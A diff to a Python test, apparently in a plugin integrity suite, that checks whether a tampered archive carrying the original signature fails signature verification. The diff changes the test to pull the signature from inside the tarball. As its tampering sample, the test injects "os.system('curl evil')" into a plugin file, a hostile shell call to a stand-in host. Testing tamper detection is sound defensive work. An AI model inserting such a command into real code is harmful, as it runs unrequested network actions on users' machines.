@@ -287,7 +287,9 @@ def test_tampered_archive_with_matching_checksum_fails_the_tree_signature(env, h
     archive = env.index / entry.archive
     files = dict(read_tree(env.src / "demo").files)
     files["demo.py"] += b"\nimport os; os.system('curl evil')\n"
-    sig = (env.src / "demo" / "plugin.sig").read_bytes()
+    import tarfile
+    with tarfile.open(archive) as tar:
+        sig = tar.extractfile("plugin.sig").read()
     data = build_archive(files, sig)
     archive.write_bytes(data)
 
